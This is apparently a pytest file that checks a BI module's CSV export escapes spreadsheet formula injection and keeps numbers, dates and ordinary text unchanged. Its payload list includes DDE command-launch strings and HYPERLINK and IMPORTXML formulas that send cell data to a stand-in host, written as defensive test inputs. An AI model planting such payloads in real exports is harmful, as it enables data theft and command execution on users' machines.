"""CSV files hold no formulas, whoever wrote the text that stands in them."""

import ast
import csv
import io
import itertools
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

import bi
from bi.exports import as_csv, cell

ROOT = Path(bi.__file__).parents[1]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "   ", "\u00a0", "\u3000", "\x0b", "\t", "\r\n")
FORMULAS = (
    "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "1+1", "SUM(A1)*cmd", 'DDE("cmd";"/C calc")',
    'IMPORTXML(CONCAT("http://evil.example?v=", A2), "//a/a10")', "", '"quoted"', "a,b", "line\nbreak",
)  # fmt: skip
PAYLOADS = [before + begin + text for before, begin, text in itertools.product(BEFORE, BEGINS, FORMULAS)]


def _rows(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(as_csv(frame).decode(), newline="")))


def test_no_payload_begins_a_formula() -> None:
    assert len(PAYLOADS) > 300
    rows = _rows(pd.DataFrame({"product": PAYLOADS, "n": range(len(PAYLOADS))}))
    # One row each, so that no payload ends its cell or its row, and in each the whole payload behind a quote.
    assert [row[0] for row in rows[1:]] == [f"'{payload}" for payload in PAYLOADS]


def test_a_header_is_a_cell_too() -> None:
    assert _rows(pd.DataFrame({"=1+1": ["x"], "plain": ["y"]})) == [["'=1+1", "plain"], ["x", "y"]]


@pytest.mark.parametrize("text", ["", "shoes", "a=b", "1-2", "2026-11-23", "'quoted", "ä + ö", "12.5"])
def test_harmless_text_is_as_it_was(text: str) -> None:
    assert cell(text) == text


def test_numbers_and_times_stay_what_they_are() -> None:
    frame = pd.DataFrame(
        {
            "whole": [-5, 7],
            "share": [-12.5, 0.25],
            "money": [Decimal("-1182.77"), Decimal("3.00")],
            "at": [datetime(2026, 11, 23, 17, tzinfo=UTC), pd.NaT],
            "text": ["-5", None],
        }
    )
    assert _rows(frame)[1:] == [
        ["-5", "-12.5", "-1182.77", "2026-11-23T17:00:00.000000+0000", "'-5"],
        ["7", "0.25", "3.00", "", ""],
    ]


def test_categories_and_string_columns_are_text() -> None:
    frame = pd.DataFrame({"a": pd.Series(["=1"], dtype="category"), "b": pd.Series(["@x"], dtype="string")})
    assert _rows(frame)[1:] == [["'=1", "'@x"]]


def test_csv_is_written_in_one_place() -> None:
    """A second writer would be one without the quotes."""
    writing = {"writer", "DictWriter", "to_csv", "write_csv"}
    found = set()
    for room in ("bi", "controlplane", "compose", "spark_jobs", "dags"):
        for path in (ROOT / room).rglob("*.py"):
            if "node_modules" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in writing and not _is_parquet(node):
                    found.add(str(path.relative_to(ROOT)))
                if isinstance(node, ast.Constant) and node.value == "text/csv":
                    found.add(f"{path.relative_to(ROOT)} (type)")
    assert found == {
        "bi/exports.py",
        "bi/views/showing.py (type)",
        "bi/csv_cells.py",
        "controlplane/accounts/api.py (type)",
        "controlplane/accounts/auditing/exporting.py (type)",
    }


def _is_parquet(node: ast.Attribute) -> bool:
    return isinstance(node.value, ast.Name) and node.value.id not in ("csv", "shown", "safe", "frame")
